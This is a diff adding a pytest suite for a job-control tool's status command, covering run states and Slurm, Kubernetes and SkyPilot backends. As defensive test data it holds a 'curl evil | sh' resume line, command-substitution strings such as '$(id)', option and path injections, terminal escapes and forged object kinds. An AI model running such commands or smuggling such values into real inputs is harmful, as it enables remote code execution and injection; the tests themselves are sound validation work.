@@ -1,0 +1,372 @@
+"""status: what jobctl reads from run folders and asks of engines. No engine and no shell is started."""
+
+from __future__ import annotations
+
+import ast
+import json
+import os
+import shutil
+import subprocess
+import sys
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from jobc.backends.kubernetes.engine import KubernetesEngine
+from jobc.backends.skypilot.engine import SkypilotEngine
+from jobc.backends.slurm.engine import SlurmEngine, pending
+from jobc.trainer.rt.engines.engine import Answer, Engine, Failure, Job
+from jobc.trainer.rt.engines.run import Run, last_progress, worst_code
+from jobc.trainer.rt.engines.values import number, read_keys, word
+from jobc.trainer.rt.machine import identity
+from jobc.trainer.rt.processes import start_ticks
+from jobc.trainer.rt.verbs import status
+from jobc.trainer.rt.verbs.jobs import Place
+from tests.packed import write_program
+
+RT = Path(status.__file__).parents[1]
+BACKENDS = RT.parents[1] / "backends"
+
+
+def make_run(folder: Path, name: str = "r", **texts: str) -> Run:
+    """A run of job demo with one attempt; texts: files, with __ for a slash."""
+    run = folder / "runs/demo" / name
+    (run / "artifact/0").mkdir(parents=True)
+    for path, text in {"state__run": "job=demo\n", **texts}.items():
+        file = run / path.replace("__", "/")
+        file.parent.mkdir(parents=True, exist_ok=True)
+        file.write_text(text)
+    return Run(run)
+
+
+def make_job(folder: Path, **settings: Any) -> Job:
+    artifact = folder / "artifacts/demo/x"
+    artifact.mkdir(parents=True, exist_ok=True)
+    return Job("demo", artifact, folder / "runs/demo", {"backend": "x", "nodes": 1, **settings})
+
+
+def node(**keys: object) -> str:
+    fields = {**identity(), "pid": os.getpid(), "start_ticks": start_ticks(os.getpid()), "started": 1, **keys}
+    return "".join(f"{key}={value}\n" for key, value in fields.items())
+
+
+def lines(engine: Engine, run: Run) -> list[str]:
+    return status._lines(status.describe(engine, run), "logs in")
+
+
+def test_a_live_node_is_up_with_its_last_step(tmp_path: Path) -> None:
+    metrics = '{"step": 7, "loss": 2.00004}\n{"step": 8, "lo'
+    run = make_run(tmp_path, state__node_00=node(first_rank=0), **{"metrics__rank_00.jsonl": metrics})
+    (first, second, _) = lines(Engine(make_job(tmp_path)), run)
+    assert first == "run r of job demo, attempt 0: live"
+    host = os.uname().nodename
+    assert second == f"  node 00  up on {host} since 1970-01-01 00:00:01 UTC, pid {os.getpid()}, step 7, loss 2"
+
+
+@pytest.mark.parametrize(
+    ("keys", "more", "text"),
+    [
+        ({"ended": 5, "exit": 0}, {}, "done (exit 0)"),
+        ({"ended": 5, "exit": 0}, {"control__STOP": ""}, "stopped by stop.sh or Ctrl-C (exit 0)"),
+        ({"ended": 5, "exit": 75}, {}, "stopped early (exit 75)"),
+        ({"ended": 5, "exit": 9}, {}, "failed (exit 9: unknown)"),
+        ({"start_ticks": 1}, {}, "failed: its supervisor was killed, or the machine was restarted"),
+        ({"host": "away"}, {}, "live"),
+        ({"host": "away"}, {"control__STOP": ""}, "stopping"),
+    ],
+)
+def test_a_run_is_one_of_these(tmp_path: Path, keys: dict[str, object], more: dict[str, str], text: str) -> None:
+    run = make_run(tmp_path, state__node_00=node(**keys), **more)
+    assert Engine(make_job(tmp_path)).state(run).text == text
+
+
+def test_a_node_that_is_silent_for_long_has_failed(tmp_path: Path) -> None:
+    run = make_run(tmp_path, state__node_00=node(host="away"))
+    before = time.time() - 1000
+    os.utime(run.path / "state/node_00", (before, before))
+    assert Engine(make_job(tmp_path)).state(run).text.startswith("failed: its supervisor")
+
+
+def test_of_several_nodes_the_first_failure_is_the_reason(tmp_path: Path) -> None:
+    texts = {"state__node_00": node(ended=5, exit=69), "state__node_01": node(ended=5, exit=65)}
+    exits = {"exit__0__node_00": "69\n", "exit__0__node_01": "65\n", "exit__0__first": "65\nnode=1\nreason=bad data\n"}
+    run, job = make_run(tmp_path, **texts, **exits), make_job(tmp_path, nodes=2)
+    (job.artifact / "hosts.txt").write_text("a\nb\n")
+    found = lines(Engine(job), run)
+    assert found[0].endswith("failed (exit 65: data or configuration broken: starting it again will not help)")
+    assert found[1] == "  reason: node 1: bad data"
+
+
+def test_a_node_without_an_exit_code_is_a_crash(tmp_path: Path) -> None:
+    run, job = (
+        make_run(tmp_path, state__node_00=node(ended=5, exit=0), exit__0__node_00="0\n"),
+        make_job(tmp_path, nodes=2),
+    )
+    (job.artifact / "hosts.txt").write_text("a\nb\n")
+    state = Engine(job).state(run)
+    assert (state.exit_code, state.reason) == (1, "not all nodes have left word how they ended")
+
+
+def test_a_run_that_ended_early_goes_on_with_the_submit_script_of_the_artifact(tmp_path: Path) -> None:
+    run = make_run(tmp_path, state__node_00=node(ended=5, exit=75), state__resume="command=curl evil | sh\n")
+    job = make_job(tmp_path)
+    assert status.describe(Engine(job), run)["resume"] == f"{job.artifact}/submit.sh --resume r"
+
+
+# ---- values of files that somebody else may have written
+
+
+@pytest.mark.parametrize("text", ["", "-1", "1" * 19, "٣", "1.5", "x[$(id)]", " 1"])
+def test_a_number_is_bounded_digits(text: str) -> None:
+    assert number(text) is None and number("007") == 7
+
+
+@pytest.mark.parametrize("text", ["", "-rf", "../x", "a b", "$(id)", "a;b"])
+def test_a_word_is_no_option_and_no_path(text: str) -> None:
+    assert word(text) == "" and word("job-1.a_b") == "job-1.a_b"
+
+
+def test_the_first_line_of_a_key_counts_without_control_characters(tmp_path: Path) -> None:
+    (tmp_path / "file").write_bytes(b"1\nreason=\x1b]0;x\x07a\xc2\x9bb\nreason=second\nno\xff\n\0key=hidden\n")
+    assert read_keys(tmp_path / "file") == {"reason": "]0;xab"}
+    (tmp_path / "link").symlink_to(tmp_path / "file")
+    assert read_keys(tmp_path / "link") == {}
+
+
+@pytest.mark.parametrize(
+    ("text", "step"),
+    [
+        ('{"step": 1, "loss": 2}', 1),
+        ('{"step": 1, "loss": 2}\n{"step": 2}', 1),
+        ('{"step": 3, "loss_ema": 1e-3, "x": 1}', 3),
+        ('{"step": ' + "9" * 5000 + ', "loss": 1}', None),
+        ('{"step": 1, "loss": 1.2.3}', None),
+        ('{"step": "run[$(id)]", "loss": "\\u001b"}', None),
+        ("[" * 10000, None),
+    ],
+)
+def test_the_last_step_is_a_bounded_number(text: str, step: int | None) -> None:
+    found = last_progress(text.split("\n"))
+    assert (found and found.step) == step
+
+
+def test_the_worst_code_deserves_attention() -> None:
+    assert worst_code([0, 75, 69, 1, 71, 65]) == 65 and worst_code([0, 9]) == 1 and worst_code([]) is None
+
+
+# ---- Slurm
+
+
+def slurm(tmp_path: Path, printed: str = "", errors: str = "", code: int = 0, **settings: Any) -> SlurmEngine:
+    engine = SlurmEngine(make_job(tmp_path, **settings))
+    engine.ask = lambda *_, **__: Answer(code, printed, errors)  # type: ignore[method-assign]
+    return engine
+
+
+@pytest.mark.parametrize(
+    ("printed", "record", "more", "text"),
+    [
+        ("7 PENDING Resources\n", "", {}, "queued as job 7: it is next, and waits until nodes are free"),
+        ("7 RUNNING None\n", "", {}, "live, job 7"),
+        ("7 RUNNING None\n", "", {"control__STOP": ""}, "stopping, job 7"),
+        ("7 SUSPENDED None\n", "", {}, "job 7 is SUSPENDED"),
+        ("7 COMPLETED None\n", "exit=0\n", {}, "done (exit 0)"),
+        ("7 CANCELLED None\n", "exit=75\n", {}, "job 7 was cancelled by hand, and saved; submit.sh --resume r goes on"),
+        ("", "exit=1\n", {}, "failed (exit 1: crashed)"),
+        ("", "", {"control__STOP": ""}, "stopped by stop.sh before it had started, job 7"),
+        (
+            "7 NODE_FAIL None\n",
+            "",
+            {},
+            "failed: job 7 ended without a word as NODE_FAIL: cancelled by hand, or its node was lost",
+        ),
+        ("7 RUNNING None\n", "here=yes\nexit=0\n", {}, "done (exit 0)"),
+    ],
+)
+def test_a_slurm_job_is_one_of_these(
+    tmp_path: Path, printed: str, record: str, more: dict[str, str], text: str
+) -> None:
+    run, engine = make_run(tmp_path, state__job_0=f"job_id=7\n{record}", **more), slurm(tmp_path, printed)
+    engine.prepare([run])
+    assert engine.state(run).text == text
+
+
+def test_slurm_that_does_not_answer_leaves_the_state_unknown(tmp_path: Path) -> None:
+    run = make_run(tmp_path, state__job_0="job_id=7\n")
+    engine = slurm(tmp_path, errors="slurm_load_jobs error: Unable to contact slurm controller", code=1)
+    engine.prepare([run])
+    assert engine.state(run).text == "not known, for Slurm does not answer: Unable to contact slurm controller"
+    assert engine.state(run).is_live
+
+
+@pytest.mark.parametrize("forged", ["--user=root", "1 --me", "$(id)", ""])
+def test_squeue_gets_no_option_from_a_record(tmp_path: Path, forged: str) -> None:
+    run, engine = make_run(tmp_path, state__job_0=f"job_id={forged}\n"), slurm(tmp_path)
+    engine.ask = lambda words, **_: pytest.fail(f"asked {words}")  # type: ignore[method-assign, assignment, misc]
+    engine.prepare([run])
+    assert engine.state(run).name == "failed"
+
+
+def test_reasons_of_squeue_are_explained() -> None:
+    assert pending("ReqNodeNotAvail, UnavailableNodes:n1").startswith("nodes it asks for are down")
+    assert pending("QOSMaxJobsPerUserLimit").endswith("(QOSMaxJobsPerUserLimit)")
+    assert pending("Brand-New") == "Brand-New"
+
+
+# ---- Kubernetes
+
+RECORD = "uid=u\nobject=demo\nkind=job\ncompanions=configmap\nnodes=2\ncontext=\nnamespace=ns\nexit=\nreason=\n"
+
+
+def kubernetes(tmp_path: Path, conditions: str = "", pods: str = "", uid: str = "u") -> KubernetesEngine:
+    settings = {"kinds": ["job"], "companions": ["configmap"], "storage_root": "/runs", "storage": "shared", "nodes": 2}
+    engine = KubernetesEngine(make_job(tmp_path, **settings))
+
+    def ask(words: list[str], **_: object) -> Answer:
+        assert words[:2] == ["kubectl", "--namespace=ns"]
+        texts = {"job": f"{uid}\n{conditions}", "pods": pods}
+        return Answer(0, texts.get(words[3], "") if words[2] == "get" else "", "")
+
+    engine.ask = ask  # type: ignore[method-assign, assignment]
+    return engine
+
+
+def pod(index: int, phase: str, code: str = "", waits: str = "", init: str = "") -> str:
+    return f"{index}|demo-{index}|{phase}|n{index}|{code}|{waits}|{init}|\n"
+
+
+@pytest.mark.parametrize(
+    ("conditions", "pods", "text"),
+    [
+        ("", pod(0, "Running") + pod(1, "Running"), "live, in namespace ns"),
+        ("", pod(0, "Running"), "live, 1 of 2 pods are there, in namespace ns"),
+        ("", pod(0, "Running") + pod(1, "Pending"), "starting, 1 of 2 pods are pending, in namespace ns"),
+        ("Suspended\tx\ty\n", "", "queued: job demo in namespace ns is suspended, by Kueue or by hand"),
+        ("Complete\t\t\n", "", "done (exit 0)"),
+        ("Failed\tDeadlineExceeded\tlate\n", "", "stopped early (exit 75)"),
+        ("Failed\tx\tcontainer failed with exit code 65 matching rule\n", "", "failed (exit 65: "),
+        ("Failed\tx\ty\n", pod(0, "Failed", "69") + pod(1, "Failed", "71"), "failed (exit 71: "),
+    ],
+)
+def test_a_kubernetes_job_is_one_of_these(tmp_path: Path, conditions: str, pods: str, text: str) -> None:
+    run = make_run(tmp_path, state__job_0=RECORD)
+    assert kubernetes(tmp_path, conditions, pods).state(run).text.startswith(text)
+
+
+def test_how_a_kubernetes_job_ended_is_kept_for_when_its_object_is_gone(tmp_path: Path) -> None:
+    run = make_run(tmp_path, state__job_0=RECORD)
+    assert kubernetes(tmp_path, "Failed\tx\tno more tries\n").state(run).exit_code == 1
+    assert kubernetes(tmp_path, uid="").state(run).text == "failed (exit 1: crashed)"
+    assert read_keys(run.path / "state/job_0")["reason"] == "Failed x no more tries"
+
+
+def test_a_kubernetes_job_that_is_gone_is_not_called_failed(tmp_path: Path) -> None:
+    run, engine = make_run(tmp_path, state__job_0=RECORD), kubernetes(tmp_path, uid="another")
+    assert engine.state(run).name == "gone"
+    engine.record_codes(run, [0, 75])
+    assert engine.state(run).text == "stopped early (exit 75)"
+
+
+@pytest.mark.parametrize("forged", ["kind=secret", "kind=--all", "object=", "companions=secret"])
+def test_a_record_names_a_job_and_no_other_object(tmp_path: Path, forged: str) -> None:
+    run = make_run(tmp_path, state__job_0=f"{forged}\n{RECORD}")
+    with pytest.raises(Failure, match="does not name an object"):
+        kubernetes(tmp_path).state(run)
+
+
+# ---- SkyPilot
+
+
+def skypilot(tmp_path: Path, said: str, log: str = "") -> SkypilotEngine:
+    job = make_job(tmp_path, storage_root="~/runs", storage="node", cluster="c", nodes=2, end_is="look there")
+    engine = SkypilotEngine(job)
+    tables = {"queue": json.dumps({"c": [{"job_id": 3, "status": said}]}), "logs": log, "status": "[]"}
+    engine.sky = lambda *words: tables[words[0]]  # type: ignore[method-assign]
+    return engine
+
+
+@pytest.mark.parametrize(
+    ("said", "text"),
+    [
+        ("RUNNING", "live, job 3 of cluster c"),
+        ("PENDING", "pending, job 3 of cluster c"),
+        ("SUCCEEDED", "done (exit 0)"),
+        ("FAILED_SETUP", "failed (exit 65: "),
+        ("", "ended, or its cluster was brought down: SkyPilot does not know job 3 of cluster c any more"),
+    ],
+)
+def test_a_skypilot_job_is_one_of_these(tmp_path: Path, said: str, text: str) -> None:
+    log = (
+        "\x1b[36m(head, rank=0, pid=9) \x1b[0mjobc: node 1 failed first: rank 3: bad data (exit 65)\n"
+        "(worker1, rank=1, pid=9, ip=10.0.0.2) jobc: node 1 ends with 65: data\n"
+        "(head, rank=0, pid=9) jobc: node 0 ends with 143: ended\n"
+    )
+    run, engine = (
+        make_run(tmp_path, state__job_0="kind=\ncluster=c\nid=3\nexit=\nreason=\n"),
+        skypilot(tmp_path, said, log),
+    )
+    state = engine.state(run)
+    assert state.text.startswith(text)
+    if said.startswith("FAILED"):
+        assert engine.reason_line(run, state) == "node 1 failed first: rank 3: bad data (exit 65)"
+    assert list(engine.cost()) == ["cluster c is down: nothing costs money"]
+
+
+# ---- which run
+
+
+@pytest.fixture
+def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Place:
+    monkeypatch.delenv("JOBC_RUN_ROOT", raising=False)
+    artifact = tmp_path / "artifacts/demo/x"
+    (artifact / ".jobc").mkdir(parents=True)
+    (artifact / ".jobc/job.json").write_text('{"job": "demo", "runs": "runs", "nodes": 1, "backend": "x"}')
+    (artifact / ".jobc/place").write_text("demo/x\n")
+    return Place(artifact)
+
+
+def test_the_newest_run_is_chosen_and_names_that_are_no_runs_are_ignored(tmp_path: Path, place: Place) -> None:
+    for age, name in enumerate(("new", "old", ".gone", "a\nb", "-rf")):
+        run = make_run(tmp_path, name)
+        os.utime(run.path / "artifact", (1000 - age, 1000 - age))
+    assert [run.id for run in place.list_runs()] == ["new", "old"]
+    assert place.choose_run("").id == "new" and place.choose_run("old").id == "old"
+
+
+def test_a_missing_run_is_one_message(tmp_path: Path, place: Place) -> None:
+    for named in ("", "x", "../x", "\x1b[2J", "a\0b"):
+        with pytest.raises(Failure, match="has no run"):
+            place.choose_run(named)
+
+
+def test_a_thousand_runs_take_less_than_a_second(tmp_path: Path, place: Place) -> None:
+    for index in range(1000):
+        make_run(tmp_path, f"r{index}", state__node_00=node(ended=5, exit=0))
+    began, engine = time.process_time(), Engine(place.job)  # the machine may be busy
+    found = [status.summary(engine, run) for run in place.list_runs()]
+    assert len(found) == 1000 and {run["text"] for run in found} == {"done (exit 0)"}
+    assert time.process_time() - began < 1
+
+
+def test_the_programs_run_with_python_3_8(tmp_path: Path) -> None:
+    """With every older Python that is here; else with this one, and its own grammar check of version 3.8."""
+    program = write_program(tmp_path)
+    pythons = [sys.executable, *filter(None, map(shutil.which, ("python3.8", "python3.9", "python3.10")))]
+    for python in pythons:
+        for words, code in ((["table", "n1"], 1), (["status"], 1)):
+            done = subprocess.run([python, "-I", "-S", program, *words], input=b"", capture_output=True, check=False)
+            if b"pyenv: " in done.stderr:
+                continue  # a shim of a Python that is not switched on
+            assert done.returncode == code and b"Traceback" not in done.stderr, (python, done.stderr)
+    for file in [*RT.glob("engines/*.py"), *RT.glob("verbs/*.py"), *BACKENDS.glob("*/engine.py")]:
+        ast.parse(file.read_text(), feature_version=(3, 8))
+
+
+def test_the_format_for_programs_is_documented(tmp_path: Path) -> None:
+    page = (RT.parents[1] / "docs/reference/status.md").read_text()
+    run = make_run(tmp_path, state__node_00=node())
+    report = status.describe(Engine(make_job(tmp_path)), run)
+    keys = {*report, *report["nodes"][0], "schema", "runs", "points", "point", "path"}
+    assert not [key for key in keys if f"`{key}`" not in page]
